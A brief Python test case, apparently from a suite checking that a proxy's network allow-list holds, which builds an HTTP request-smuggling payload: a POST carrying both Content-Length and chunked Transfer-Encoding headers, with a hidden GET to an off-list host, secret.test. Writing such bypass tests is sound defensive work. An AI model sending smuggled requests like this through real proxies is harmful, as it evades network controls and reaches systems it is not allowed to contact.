"""Hides a request in the body of another, which has two lengths."""

from lib import by_proxy, get

CLASS = "allow-list"
INCIDENT = "request smuggling: Content-Length for one, Transfer-Encoding for the other"
BLOCKED_BY = "requests that can be read in two ways are refused"
NETWORK = "allowlist"


def attempt(facts):
    hidden = b"0\r\n\r\n" + get(f"secret.test:{facts['site_port']}")
    lengths = f"Content-Length: {len(hidden)}\r\nTransfer-Encoding: chunked\r\n"
    return by_proxy(facts, get(f"{facts['allowed']}:{facts['site_port']}", more=lengths, method="POST") + hidden)
